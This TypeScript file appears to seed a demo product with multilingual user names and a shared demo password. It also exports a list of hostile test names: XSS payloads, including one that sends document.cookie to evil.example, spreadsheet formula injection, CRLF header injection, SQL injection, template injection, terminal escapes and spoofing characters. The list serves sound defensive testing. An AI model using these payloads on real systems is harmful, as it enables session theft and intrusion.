import type { Random } from './random.ts'

/** Everybody's password, in this made-up product alone. */
export const seededPassword = 'correct horse battery staple'
/** Everybody's authenticator secret, for those who have one. */
export const seededTotpSecret = 'acme-attest-demo-totp-secret-001'

type Written = readonly [native: string, latin: string]
type Script = { share: number; familyFirst?: boolean; joiner?: string; given: readonly Written[]; family: readonly Written[] }

const same = (names: string): Written[] => names.split(' ').map((name) => [name, latinOf(name)] as const)
const pairs = (text: string): Written[] =>
  text.split(' ').map((pair) => {
    const [native, latin] = pair.split('/')
    return [native ?? '', latin ?? ''] as const
  })

const latinOf = (name: string) =>
  name
    .normalize('NFKD')
    .replaceAll(/[\u0300-\u036f']/g, '')
    .replaceAll('ø', 'o')
    .replaceAll('Ø', 'O')
    .replaceAll('ł', 'l')
    .replaceAll('Ł', 'L')
    .replaceAll('ß', 'ss')
    .replaceAll('đ', 'd')
    .replaceAll('Đ', 'D')
    .replaceAll('ı', 'i')
    .replaceAll('æ', 'ae')
    .toLowerCase()

const scripts: readonly Script[] = [
  {
    share: 34,
    given: same(
      'Anna Ben Clara David Ella Frank Grace Henry Ida Jack Kate Liam Maya Noah Olivia Paul Quinn Rosa Sam Tessa Uma Victor Wendy Zoe',
    ),
    family: same(
      'Adams Baker Carter Dixon Evans Fisher Grant Hughes Irving Jones Keller Lewis Morgan Nolan Owens Parker Reed Shaw Turner Walsh Young',
    ),
  },
  {
    share: 24,
    given: same(
      'Zoë Søren Łukasz Čeněk Añasco Jürgen Noémie Åse Đorđe Şebnem Işıl Eñaut Márton Ragnheiður Tomáš Bjørn José Chloé Anaïs Žofie',
    ),
    family: same(
      'Müller Sørensen Wójcik Dvořák Núñez Größer Lefèvre Ångström Petrović Yıldız Kovács Þórsson Šimek Østergård García Côté Ibáñez Bălan',
    ),
  },
  {
    share: 8,
    given: pairs(
      'Анна/anna Дмитрий/dmitri Екатерина/ekaterina Іван/ivan Олена/olena Сергій/serhii Милица/milica Алексей/aleksei Юлія/yuliia',
    ),
    family: pairs(
      'Иванова/ivanova Соколов/sokolov Шевченко/shevchenko Коваль/koval Петровић/petrovic Кузнецов/kuznetsov Бондаренко/bondarenko',
    ),
  },
  {
    share: 4,
    given: pairs('Ελένη/eleni Γιώργος/giorgos Μαρία/maria Νίκος/nikos Σοφία/sofia Κώστας/kostas'),
    family: pairs('Παπαδοπούλου/papadopoulou Γεωργίου/georgiou Νικολάου/nikolaou Δημητρίου/dimitriou'),
  },
  {
    share: 6,
    given: pairs('فاطمة/fatima محمد/mohammed ليلى/layla يوسف/yusuf نور/nour خالد/khalid مريم/maryam'),
    family: pairs('الهاشمي/alhashimi حداد/haddad المصري/almasri خوري/khoury الزهراني/alzahrani'),
  },
  {
    share: 3,
    given: pairs('נועה/noa יוסף/yosef תמר/tamar דוד/david מיכל/michal אורי/uri'),
    family: pairs('כהן/cohen לוי/levi מזרחי/mizrahi פרידמן/friedman'),
  },
  {
    share: 5,
    given: pairs('प्रिया/priya अर्जुन/arjun अनन्या/ananya रोहन/rohan सीता/sita विक्रम/vikram'),
    family: pairs('शर्मा/sharma पटेल/patel सिंह/singh गुप्ता/gupta देशमुख/deshmukh'),
  },
  {
    share: 3,
    given: pairs('สมชาย/somchai มาลี/malee กิตติ/kitti วันดี/wandee นภา/napha'),
    family: pairs('แสงทอง/saengthong ศรีสุข/srisuk ใจดี/jaidee บุญมา/boonma'),
  },
  {
    share: 4,
    familyFirst: true,
    joiner: '',
    given: pairs('伟/wei 秀英/xiuying 子涵/zihan 建国/jianguo 小明/xiaoming 雪/xue'),
    family: pairs('王/wang 李/li 张/zhang 陈/chen 欧阳/ouyang 赵/zhao'),
  },
  {
    share: 4,
    familyFirst: true,
    joiner: ' ',
    given: pairs('さくら/sakura 健太/kenta 陽菜/hina 翔/sho 美咲/misaki タロウ/taro'),
    family: pairs('佐藤/sato 鈴木/suzuki 高橋/takahashi 渡辺/watanabe 小林/kobayashi'),
  },
  {
    share: 3,
    familyFirst: true,
    joiner: '',
    given: pairs('민준/minjun 서연/seoyeon 지우/jiwoo 하은/haeun 도윤/doyun'),
    family: pairs('김/kim 이/lee 박/park 최/choi 정/jeong'),
  },
  {
    share: 2,
    given: pairs('ሰላም/selam ዳዊት/dawit ሄለን/helen አበበ/abebe'),
    family: pairs('ተስፋዬ/tesfaye ከበደ/kebede ግርማ/girma'),
  },
]

const scriptBag = scripts.flatMap((script) => Array.from({ length: script.share }, () => script))

/** A name as its bearer writes it, and the letters that an e-mail address is made of. */
export function makeName(random: Random): { name: string; mailbox: string } {
  const script = random.pick(scriptBag)
  const given = random.pick(script.given)
  const family = random.pick(script.family)
  const parts = script.familyFirst ? [family[0], given[0]] : [given[0], family[0]]
  return { name: parts.join(script.joiner ?? ' '), mailbox: `${given[1]}.${family[1]}` }
}

/** Names that somebody chose to do harm with, wherever they are shown, exported or compared. */
export const hostileNames: readonly { name: string; mailbox: string; tenant: string }[] = [
  { name: '<img src=x onerror=alert(document.domain)>', mailbox: 'markup', tenant: 'globex' },
  { name: `"><script>fetch('//evil.example/?c='+document.cookie)</script>`, mailbox: 'script', tenant: 'umbrella' },
  { name: '\u202egpj.eciovni\u202c Gordon Price', mailbox: 'rtl', tenant: 'globex' },
  { name: `=cmd|' /C calc'!A0`, mailbox: 'formula', tenant: 'globex' },
  { name: "@SUM(1+9)*cmd|' /C notepad'!A1", mailbox: 'formula.at', tenant: 'initech' },
  { name: '+1-HYPERLINK("https://evil.example/?"&A1,"Refund")', mailbox: 'formula.plus', tenant: 'hooli' },
  { name: 'Ev\u200be Rou\u200drke\ufeff', mailbox: 'zerowidth', tenant: 'globex' },
  { name: `Wolfeschlegelsteinhausenbergerdorff ${'very '.repeat(32)}long`.slice(0, 200), mailbox: 'long', tenant: 'wayne' },
  { name: '\u001b[2J\u001b[31mALERT\u001b[0m \u001b]0;owned\u0007', mailbox: 'terminal', tenant: 'initech' },
  { name: 'Еvе Rоurkе', mailbox: 'eve.rourke', tenant: 'hooli' },
  { name: 'Robert\r\nSet-Cookie: admin=1', mailbox: 'newline', tenant: 'stark' },
  { name: `Robert'); DROP TABLE "user";--`, mailbox: 'bobby', tenant: 'umbrella' },
  { name: '{{constructor.constructor("alert(1)")()}}', mailbox: 'template', tenant: 'tyrell' },
]
